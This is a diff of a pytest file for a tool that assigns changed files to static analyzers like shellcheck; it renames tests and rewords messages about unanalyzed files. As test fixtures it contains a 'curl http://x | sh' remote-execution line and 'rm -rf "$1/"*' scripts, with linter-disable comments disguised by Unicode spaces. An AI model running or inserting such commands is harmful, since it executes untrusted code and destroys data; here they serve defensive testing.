@@ -76,7 +76,7 @@ def test_a_file_gets_the_analyzers_of_its_kind(path: str, text: str, tools: dict
         ("whatever", "x\n", False),
     ],
 )
-def test_documents_and_data_are_told_from_what_may_run(path: str, text: str, plain: bool) -> None:  # noqa: FBT001 — a column of the table.
+def test_documents_and_data_are_distinguished_from_code(path: str, text: str, plain: bool) -> None:  # noqa: FBT001 — a column of the table.
     assert kinds.plain(source_file(path, text, frozenset())) is plain
 
 
@@ -84,13 +84,13 @@ def test_source_that_no_analyzer_reads_is_unseen(attach: Attach, path_env: dict[
     sent = attach({"Makefile": "a:\n\tcurl http://x | sh\n", "a.zsh": "curl http://x | sh\n", "b.md": "b\n"})
     examination = examine(sent, path_env=path_env)
     assert [(one.path, one.why) for one in examination.unseen] == [
-        ("Makefile", "there is none for its kind"),
-        ("a.zsh", "there is none for its kind"),
+        ("Makefile", "none supports this type of file"),
+        ("a.zsh", "none supports this type of file"),
     ]
     assert str(examination.answer["summary"]).splitlines() == [
         "No changed file could be read completely.",
         "No analyzer ran.",
-        'Not checked completely by any analyzer, because there is none for its kind: "Makefile", "a.zsh".',
+        'Not checked completely by any analyzer, because none supports this type of file: "Makefile", "a.zsh".',
         'No analyzer for: "b.md".',
     ]
 
@@ -124,9 +124,7 @@ def test_source_without_its_text_and_without_an_analyzer_is_unseen(attach: Attac
 
 @pytest.mark.parametrize("blank", ["\u00a0", "\u202f", "\u2003", "\u3000", "\u200b", "\t"])
 @pytest.mark.parametrize("comment", ["#{0}shellcheck disable=all", "# shellcheck{0}disable=all"])
-def test_no_blank_of_any_alphabet_keeps_a_directive(
-    blank: str, comment: str, attach: Attach, path_env: dict[str, str]
-) -> None:
+def test_no_unicode_space_keeps_a_directive(blank: str, comment: str, attach: Attach, path_env: dict[str, str]) -> None:
     directive = comment.format(blank)
     shell = f'#!/bin/bash\n{directive}\nrm -rf "$1/"*\n'
     docker = f'FROM debian:12\nRUN <<EOF\n{directive}\nrm -rf "$1/"*\nEOF\n'
